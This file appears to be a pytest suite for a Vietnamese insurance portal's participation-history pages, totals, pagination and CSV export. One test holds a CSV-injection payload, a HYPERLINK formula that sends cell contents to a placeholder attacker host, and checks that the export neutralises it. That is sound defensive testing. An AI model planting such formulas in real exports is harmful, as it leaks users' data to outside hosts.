"""Participation history: totals as BHXH counts them, the pages, the chart, the CSV export."""

import csv
import io
import math
import re
from decimal import Decimal

import pytest

from participation.models import Period
from participation.selectors import YearBase, bhyt_spans_for, format_months, totals_of, yearly_average_base
from tests.accounts.helpers import make_person

from .helpers import month, monthly_periods, months_from_now, period

pytestmark = pytest.mark.usefixtures("reference_data")


def test_overlapping_periods_count_once_and_gaps_are_shown(person):
    totals = totals_of([
        period(person, "01/2010", "12/2012", save=False),
        period(person, "07/2012", "06/2013", save=False),  # overlaps 6 months
        period(person, "01/2014", "12/2014", save=False),  # after a 6-month gap
    ])
    assert totals.months == 36 + 6 + 12
    assert totals.gaps == [(month("07/2013"), month("12/2013"))]
    assert totals.duration == "4 năm 6 tháng"
    assert (totals.first, totals.last) == (month("01/2010"), month("12/2014"))


def test_voluntary_and_compulsory_months_add_up_without_double_counting(person):
    totals = totals_of([
        period(person, "01/2015", "12/2020", save=False),
        period(person, "06/2020", "07/2021", kind=Period.Kind.BHXH_VOLUNTARY, payer=Period.Payer.SELF, save=False),
    ])
    assert totals.months == 72 + 7
    assert totals.duration == "6 năm 7 tháng"


def test_months_owed_are_the_unpaid_months_no_other_period_paid(person):
    totals = totals_of([
        period(person, "01/2024", "12/2024", unpaid=3, save=False),
        period(person, "12/2024", "12/2024", kind=Period.Kind.BHXH_VOLUNTARY, payer=Period.Payer.SELF, save=False),
    ])
    assert totals.months == 12
    assert totals.months_owed == 2  # 10 and 11/2024; 12/2024 was paid voluntarily
    assert totals.months_paid == 10


def test_months_paid_ahead_are_not_time_contributed_yet(person):
    """Voluntary BHXH may be paid up to 60 months ahead, a household's BHYT 12: a month not reached
    yet is paid, not contributed, as the pension estimator counts it."""
    periods = [
        period(person, "01/2017", "12/2031", kind=Period.Kind.BHXH_VOLUNTARY, payer=Period.Payer.SELF, base=5_000_000,
               save=False),
        period(person, "01/2027", "12/2027", kind=Period.Kind.BHXH_VOLUNTARY, payer=Period.Payer.SELF, base=1_000_000,
               save=False),
    ]
    totals = totals_of(periods, until=month("12/2026"))
    assert (totals.months, totals.months_paid, totals.months_ahead, totals.duration) == (120, 120, 60, "10 năm")
    assert (totals.first, totals.last, totals.gaps) == (month("01/2017"), month("12/2026"), [])
    assert totals_of(periods).months == 180  # without a month to count to: every month
    assert yearly_average_base(periods, until=month("12/2026"))[-1] == YearBase(2026, 5_000_000)


def test_months_owed_after_the_current_month_are_not_due_yet(person):
    totals = totals_of([period(person, "01/2026", "06/2027", kind=Period.Kind.BHXH_VOLUNTARY,
                               payer=Period.Payer.SELF, unpaid=8, save=False)], until=month("12/2026"))
    assert (totals.months, totals.months_owed, totals.months_ahead) == (12, 2, 0)  # 11 and 12/2026 owed


@pytest.mark.parametrize(("months", "text"), [(0, "0 tháng"), (7, "7 tháng"), (12, "1 năm"), (151, "12 năm 7 tháng")])
def test_duration_wording(months, text):
    assert format_months(months) == text


@pytest.mark.parametrize(("months", "text"), [(0, "0 tháng"), (7, "0 năm 7 tháng"), (12, "1 năm 0 tháng"),
                                              (151, "12 năm 7 tháng")])
def test_duration_wording_with_both_units_as_a_statement_says_it(months, text):
    """Both units always, but no month at all is '0 tháng', not '0 năm 0 tháng'."""
    assert format_months(months, both_units=True) == text


def test_bhyt_spans_are_the_persons_bhyt_periods_in_one_query(person, django_assert_num_queries):
    period(person, "01/2015", "12/2019", kind=Period.Kind.BHYT)
    period(person, "03/2021", "02/2022", kind=Period.Kind.BHYT)
    period(person, "01/2015", "12/2022")  # BHXH: not BHYT coverage
    other = make_person("7902222222", "Lê Thị Hoa", id_number="079190012345", sex=2)
    period(other, "01/2010", "12/2024", kind=Period.Kind.BHYT)  # someone else's
    with django_assert_num_queries(1):
        spans = bhyt_spans_for(person=person)
    assert spans == [(month("03/2021"), month("02/2022")), (month("01/2015"), month("12/2019"))]


def test_page_shows_totals_tabs_rows_and_chart(client, citizen, person):
    period(person, "01/2010", "12/2012", base=5_000_000)
    period(person, "01/2014", "06/2016", base=8_000_000, unpaid=2)
    period(person, "01/2014", "06/2016", kind=Period.Kind.BHYT)
    client.force_login(citizen)
    html = client.get("/qua-trinh-tham-gia/").content.decode()
    assert "Tổng thời gian tham gia</dt><dd><strong>5 năm 6 tháng</strong>" in html
    assert "<dt>Số tháng còn nợ</dt><dd><strong>2 tháng</strong>" in html
    assert "01/2013–12/2013" in html  # the gap
    assert html.index("01/2014 – 06/2016") < html.index("01/2010 – 12/2012")  # newest first
    assert html.count("<details>") == 3  # two expandable rows + the chart's table fallback
    assert '<svg viewBox="0 0 640 240"' in html and 'role="img"' in html
    bars = re.findall(r'<rect x="([^"]+)" y="([^"]+)" width="([^"]+)" height="([^"]+)"', html)
    assert len(bars) == 6 and all(re.fullmatch(r"\d+(\.\d+)?", value) for bar in bars for value in bar)  # "14.7", never "14,7"
    assert "<th scope=\"row\">2015</th><td>8.000.000 đ</td>" in html  # table fallback
    assert 'aria-current="page">BHXH</a>' in html
    bhyt = client.get("/qua-trinh-tham-gia/bhyt/").content.decode()
    assert 'aria-current="page">BHYT</a>' in bhyt and "2 năm 6 tháng" in bhyt
    assert client.get("/qua-trinh-tham-gia/khong-co/").status_code == 404


def test_the_page_counts_the_time_contributed_to_this_month_and_tells_the_months_paid_ahead_apart(
        client, citizen, person):
    period(person, months_from_now(-119), months_from_now(60), kind=Period.Kind.BHXH_VOLUNTARY,
           payer=Period.Payer.SELF)
    client.force_login(citizen)
    html = client.get("/qua-trinh-tham-gia/").content.decode()
    assert "Tổng thời gian tham gia</dt><dd><strong>10 năm</strong>" in html
    assert f"120 tháng, từ {months_from_now(-119)} đến {months_from_now(0)}" in html
    assert "<dt>Số tháng đã đóng</dt><dd>120 tháng</dd>" in html
    assert (f"<dt>Số tháng đã đóng trước</dt><dd>60 tháng ({months_from_now(1)}–{months_from_now(60)}), "
            "chưa tính vào tổng thời gian tham gia</dd>") in html
    years = re.findall(r'<th scope="row">(\d{4})</th>', html)
    assert years and max(years) == months_from_now(0)[-4:]  # the chart stops at this year


def test_a_period_owes_the_months_up_to_this_month_as_the_totals_count_them(client, citizen, person):
    """Voluntary BHXH registered for 18 months with its last 8 unpaid: the 2 up to this month are
    owed, the 6 after it are not due yet, and the row says so as the totals do."""
    period(person, months_from_now(-11), months_from_now(6), kind=Period.Kind.BHXH_VOLUNTARY,
           payer=Period.Payer.SELF, unpaid=8)
    client.force_login(citizen)
    html = client.get("/qua-trinh-tham-gia/").content.decode()
    assert "<dt>Số tháng còn nợ</dt><dd><strong>2 tháng</strong>" in html
    assert "· <strong>nợ 2 tháng</strong> (6 tháng sau chưa đến hạn)" in html
    assert "nợ 8 tháng" not in html


def test_a_history_paid_wholly_ahead_totals_no_months_without_empty_brackets(client, citizen, person):
    """Household BHYT bought from next month: no month is reached yet, so there is no first or last
    month to name after the total."""
    period(person, months_from_now(1), months_from_now(12), kind=Period.Kind.BHYT, payer=Period.Payer.HOUSEHOLD)
    client.force_login(citizen)
    html = client.get("/qua-trinh-tham-gia/bhyt/").content.decode()
    assert "Tổng thời gian tham gia</dt><dd><strong>0 tháng</strong></dd>" in html
    assert "()" not in html
    assert (f"<dt>Số tháng đã đóng trước</dt><dd>12 tháng ({months_from_now(1)}–{months_from_now(12)}), "
            "chưa tính vào tổng thời gian tham gia</dd>") in html


def test_page_runs_a_constant_number_of_queries(client, citizen, person, monkeypatch):
    """One period or 40 years of monthly changes: the same queries, counted on a page rendered, not
    served from the page cache (tests/test_page_cache.py counts that one)."""
    from django.db import connection
    from django.test.utils import CaptureQueriesContext

    import accounts.pages

    monkeypatch.setattr(accounts.pages, "content_version", lambda *ids: None)

    def queries_for_page():
        client.get("/qua-trinh-tham-gia/")  # warm caches that a real visitor's session already has
        with CaptureQueriesContext(connection) as captured:
            response = client.get("/qua-trinh-tham-gia/")
        assert response.status_code == 200
        return len(captured), response.content.decode()

    client.force_login(citizen)
    monthly_periods(person, 1986 * 12, 1)
    one, html = queries_for_page()
    assert "1 tháng" in html
    monthly_periods(person, 1986 * 12 + 1, 479)
    forty_years, html = queries_for_page()
    assert "40 năm" in html
    assert one == forty_years <= 10


def test_a_long_history_comes_in_pages_of_five_years_with_the_totals_of_all(client, citizen, person):
    monthly_periods(person, 2016 * 12, 130)  # 01/2016 – 10/2026
    client.force_login(citizen)

    def when(html):
        return re.findall(r'<span class="periods__when">(\d\d/\d{4})', html)

    first = client.get("/qua-trinh-tham-gia/").content.decode()
    assert when(first) == when(client.get("/qua-trinh-tham-gia/?trang=1").content.decode())
    second = client.get("/qua-trinh-tham-gia/?trang=2").content.decode()
    last = client.get("/qua-trinh-tham-gia/?trang=3").content.decode()
    assert [len(when(page)) for page in (first, second, last)] == [60, 60, 10]
    assert when(first)[0] == "10/2026" and when(second)[0] == "10/2021" and when(last)[-1] == "01/2016"
    assert "Giai đoạn 61–120 trong 130, trang 2/3." in second
    for page in (first, second, last):  # totals and chart count every period, whatever the page
        assert "<strong>10 năm 10 tháng</strong>" in page and len(re.findall(r"<rect ", page)) == 11
    # Each page opens at the periods' heading, below the totals and the chart.
    assert 'href="?trang=2#chi-tiet" rel="next"' in first and 'rel="prev"' not in first
    assert 'href="?trang=1#chi-tiet" rel="prev"' in second and 'href="?trang=3#chi-tiet" rel="next"' in second
    assert second.count('id="chi-tiet"') == 1
    assert 'rel="next"' not in last
    for wrong in ("4", "0", "02", "x", "", "²", "١", "9" * 5000, "1 "):
        assert client.get(f"/qua-trinh-tham-gia/?trang={wrong}").status_code == 404, wrong


def test_a_short_history_has_no_page_links(client, citizen, person):
    period(person, "01/2010", "12/2012")
    client.force_login(citizen)
    html = client.get("/qua-trinh-tham-gia/").content.decode()
    assert 'class="pagination"' not in html and "trang 1/1" not in html


def test_csv_export_has_every_period(client, citizen, person):
    period(person, "01/2010", "12/2012", base=5_000_000)
    period(person, "01/2014", "06/2016", kind=Period.Kind.BHYT)
    client.force_login(citizen)
    response = client.get("/qua-trinh-tham-gia/xuat-csv/")
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    text = b"".join(response.streaming_content).decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text)))
    assert rows[0][:3] == ["Loại", "Từ tháng", "Đến tháng"]
    assert {(r[0], r[1], r[2]) for r in rows[1:]} == {("BHXH bắt buộc", "01/2010", "12/2012"), ("BHYT", "01/2014", "06/2016")}


def test_csv_export_writes_rates_with_a_decimal_comma(client, citizen, person):
    """A spreadsheet in vi-VN reads "22.00" as text (or 2200): rates are written as the portal shows
    them, "22" and "1,5", in a quoted cell, under a header naming the unit."""
    period(person, "01/2010", "12/2012", base=5_000_000)  # 25 %
    p = period(person, "01/2014", "06/2016", kind=Period.Kind.BHYT, base=5_000_000, save=False)
    p.rate, p.amount = Decimal("1.5"), 75_000
    p.save()
    client.force_login(citizen)
    text = b"".join(client.get("/qua-trinh-tham-gia/xuat-csv/").streaming_content).decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text)))
    column = rows[0].index("Tỷ lệ (%)")
    assert {row[0]: (row[7], row[column], row[9]) for row in rows[1:]} == {
        "BHXH bắt buộc": ("5000000", "25", "1250000"), "BHYT": ("5000000", "1,5", "75000")}
    assert ',"1,5",' in text


def test_csv_export_owes_a_periods_months_up_to_this_month_as_its_page_row_does(client, citizen, person):
    """Voluntary BHXH registered for 18 months with its last 8 unpaid: the page's row owes the 2 up
    to this month and says the 6 after it are not due yet; so does the file, in a column of its own
    after the others."""
    period(person, months_from_now(-11), months_from_now(6), kind=Period.Kind.BHXH_VOLUNTARY,
           payer=Period.Payer.SELF, unpaid=8)
    period(person, "01/2010", "12/2012", unpaid=3)  # long past: every unpaid month owed
    client.force_login(citizen)
    rows = list(csv.reader(io.StringIO(b"".join(client.get("/qua-trinh-tham-gia/xuat-csv/").streaming_content)
                                       .decode("utf-8-sig"))))
    assert rows[0][10] == "Số tháng nợ" and rows[0][-1] == "Số tháng chưa đến hạn"
    assert {row[1]: (row[10], row[-1]) for row in rows[1:]} == {months_from_now(-11): ("2", "6"), "01/2010": ("3", "0")}


def test_csv_export_writes_formula_like_text_as_text(client, citizen, person):
    hostile = '=HYPERLINK("http://ke-gia-mao.example/?"&A2,"Xem")'
    p = period(person, "01/2010", "12/2012", save=False)
    p.job_title = hostile
    p.save()
    period(person, "01/2014", "06/2016", kind=Period.Kind.BHYT)  # a plain row stays as it was
    client.force_login(citizen)
    rows = list(csv.reader(io.StringIO(b"".join(client.get("/qua-trinh-tham-gia/xuat-csv/").streaming_content)
                                       .decode("utf-8-sig"))))
    job_titles = {row[0]: row[6] for row in rows[1:]}
    assert job_titles == {"BHXH bắt buộc": "'" + hostile, "BHYT": ""}


def test_pages_show_only_the_logged_in_persons_history(client, citizen, person):
    other = make_person("7902222222", "Lê Thị Hoa", id_number="079190012345", sex=2)
    period(other, "01/2000", "12/2000", base=7_777_000)
    client.force_login(citizen)
    assert "7.777.000" not in client.get("/qua-trinh-tham-gia/").content.decode()
    export = b"".join(client.get("/qua-trinh-tham-gia/xuat-csv/").streaming_content).decode("utf-8-sig")
    assert "7777000" not in export
    client.logout()
    assert client.get("/qua-trinh-tham-gia/xuat-csv/").status_code == 302


def test_personal_information_masks_the_phone_until_revealed(client, citizen):
    client.force_login(citizen)
    html = client.get("/ca-nhan/").content.decode()
    assert "0••• ••• 678" in html and "0912 345 678" not in html
    assert "0912 345 678" in client.get("/ca-nhan/?hien-so-dien-thoai=1").content.decode()


def test_showing_or_hiding_the_phone_comes_back_to_the_phone_not_the_top_of_the_page(client, citizen):
    """The link reloads the page: its address names the phone's line, where the browser scrolls and the
    next Tab goes on from."""
    client.force_login(citizen)
    for address, link in (("/ca-nhan/", "?hien-so-dien-thoai=1#so-dien-thoai"),
                          ("/ca-nhan/?hien-so-dien-thoai=1", "/ca-nhan/#so-dien-thoai")):
        html = client.get(address).content.decode()
        assert f'href="{link}"' in html, address
        assert html.count('id="so-dien-thoai"') == 1 and re.search(r'<dd id="so-dien-thoai">[^<]*<a href', html)


def test_a_single_month_is_written_once_for_a_break_and_for_a_period(client, citizen, person):
    period(person, "01/2021", "06/2021")
    period(person, "08/2021", "08/2021")  # after a break of one month: 07/2021
    period(person, "10/2021", "12/2021")  # after another one-month break: 09/2021
    period(person, "03/2022", "05/2022")  # after 01/2022–02/2022
    client.force_login(citizen)
    html = client.get("/qua-trinh-tham-gia/").content.decode()
    assert "<dt>Khoảng gián đoạn</dt><dd>07/2021; 09/2021; 01/2022–02/2022</dd>" in html
    assert '<span class="periods__when">08/2021</span>' in html
    assert '<span class="periods__when">03/2022 – 05/2022</span>' in html
    assert "07/2021–07/2021" not in html and "08/2021 – 08/2021" not in html


def test_the_yearly_average_adds_the_bases_of_a_month_paid_twice(person):
    """Compulsory and voluntary BHXH in the same months, or two employers: a month's base is the sum
    of its bases, and the year's average is over the months, not over the periods' months."""
    from participation.selectors import YearBase, yearly_average_base

    periods = [
        period(person, "01/2000", "12/2000", base=7_000_000, save=False),
        period(person, "01/2000", "06/2000", kind=Period.Kind.BHXH_VOLUNTARY, base=5_000_000, payer="self", save=False),
        period(person, "01/2001", "03/2001", base=4_000_000, save=False),
    ]
    assert yearly_average_base(periods) == [YearBase(2000, 9_500_000), YearBase(2001, 4_000_000)]


def test_the_yearly_average_is_rounded_half_a_dong_up(person):
    """8.000.001 đ over two months is 4.000.000,5 đ a month: 4.000.001 đ, the portal's one rounding
    rule (round_vnd), not 4.000.000 đ by half to even."""
    from participation.selectors import YearBase, yearly_average_base

    periods = [period(person, "01/2000", "01/2000", base=4_000_001, save=False),
               period(person, "02/2000", "02/2000", base=4_000_000, save=False)]
    assert yearly_average_base(periods) == [YearBase(2000, 4_000_001)]


@pytest.mark.parametrize("url", ["/qua-trinh-tham-gia/", "/qua-trinh-tham-gia/bhyt/", "/qua-trinh-tham-gia/xuat-csv/"])
def test_a_form_posted_to_the_history_is_told_the_page_is_only_read(client, citizen, person, url):
    period(person, "01/2020", "12/2020")
    client.force_login(citizen)
    response = client.post(url)
    assert response.status_code == 405 and response["Allow"] == "GET, HEAD"
    assert "01/2020" not in response.content.decode()


def test_a_history_of_one_month_names_that_month_once(client, citizen, person):
    period(person, "05/2020", "05/2020")
    client.force_login(citizen)
    html = client.get("/qua-trinh-tham-gia/").content.decode()
    assert "<dt>Tổng thời gian tham gia</dt><dd><strong>1 tháng</strong> (05/2020)</dd>" in html
    assert "từ 05/2020 đến 05/2020" not in html


def test_a_history_under_a_year_writes_its_months_once(client, citizen, person):
    period(person, "01/2025", "07/2025")
    client.force_login(citizen)
    html = client.get("/qua-trinh-tham-gia/").content.decode()
    assert "<dt>Tổng thời gian tham gia</dt><dd><strong>7 tháng</strong> (từ 01/2025 đến 07/2025)</dd>" in html


def test_the_csv_export_runs_the_same_queries_for_one_month_and_forty_years(client, citizen, person):
    """Each row names its employer, province, clinic and agency: read with the periods, not one query per row."""
    from django.db import connection
    from django.test.utils import CaptureQueriesContext

    def export():
        b"".join(client.get("/qua-trinh-tham-gia/xuat-csv/").streaming_content)  # the session's caches warmed
        with CaptureQueriesContext(connection) as captured:
            response = client.get("/qua-trinh-tham-gia/xuat-csv/")
            rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode("utf-8-sig"))))
        return len(captured), len(rows) - 1

    client.force_login(citizen)
    monthly_periods(person, 1986 * 12, 1)
    one, rows = export()
    assert rows == 1
    monthly_periods(person, 1986 * 12 + 1, 479)
    forty_years, rows = export()
    assert rows == 480 and forty_years == one


def test_a_login_past_its_csv_exports_of_the_hour_is_refused_with_the_minutes_left(client, citizen, person, settings):
    """Each export reads and writes every period of the persons the login views: past
    settings.PARTICIPATION_EXPORTS_PER_LOGIN of them an hour, a script looping on the link gets the history page
    with a 429 saying in Vietnamese how many minutes are left, as Retry-After does, and no file."""
    settings.PARTICIPATION_EXPORTS_PER_LOGIN = "2/h"
    period(person, "01/2010", "12/2012")
    client.force_login(citizen)
    for _ in range(2):
        assert client.get("/qua-trinh-tham-gia/xuat-csv/")["Content-Type"] == "text/csv; charset=utf-8"
    refused = client.get("/qua-trinh-tham-gia/xuat-csv/")
    assert refused.status_code == 429 and refused["Content-Type"].startswith("text/html")
    minutes = math.ceil(int(refused["Retry-After"]) / 60)
    assert 1 <= int(refused["Retry-After"]) <= 3600
    html = refused.content.decode()
    assert (f"Bạn đã tải quá trình tham gia (tệp CSV) quá nhiều lần trong một giờ. Hãy thử lại sau {minutes} phút"
            in html)
    assert "01/2010" in html  # the history itself, read from the page as before


def test_the_refused_exports_page_leads_to_the_history_not_to_another_export(client, citizen, person, settings):
    """The history shown with a refused export is not at the history's address: its page links, the language
    form and the session dialog's "continue" lead to the history's address, so that a click on page 2 shows
    page 2 instead of counting another export (refused again, or, once the hour is over, a CSV download)."""
    settings.PARTICIPATION_EXPORTS_PER_LOGIN = "1/h"
    monthly_periods(person, 2016 * 12, 130)
    client.force_login(citizen)
    client.get("/qua-trinh-tham-gia/xuat-csv/")
    refused = client.get("/qua-trinh-tham-gia/xuat-csv/")
    html = refused.content.decode()
    assert refused.status_code == 429
    assert 'href="/qua-trinh-tham-gia/?trang=2#chi-tiet" rel="next"' in html
    assert 'name="next" type="hidden" value="/qua-trinh-tham-gia/"' in html
    assert 'value="/qua-trinh-tham-gia/xuat-csv/"' not in html and 'href="?trang=' not in html
    second = client.get(re.search(r'href="([^"]+)#chi-tiet" rel="next"', html)[1])
    assert second.status_code == 200 and "Giai đoạn 61–120 trong 130, trang 2/3." in second.content.decode()
